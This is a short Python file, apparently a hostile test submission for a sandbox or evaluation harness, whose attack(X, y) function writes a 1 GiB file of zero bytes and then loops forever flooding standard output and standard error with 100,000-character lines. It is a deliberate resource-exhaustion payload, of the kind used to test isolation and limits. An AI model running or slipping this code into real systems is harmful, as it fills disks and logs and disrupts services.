"""Floods standard output and standard error, and writes a huge file in its own folder."""

import os
import sys


def attack(X, y):
    line = "x" * 100_000
    with open("big.bin", "wb") as f:
        f.write(b"\0" * 2**30)
    while True:
        print(line)
        sys.stderr.write(line)
        os.write(1, line.encode())
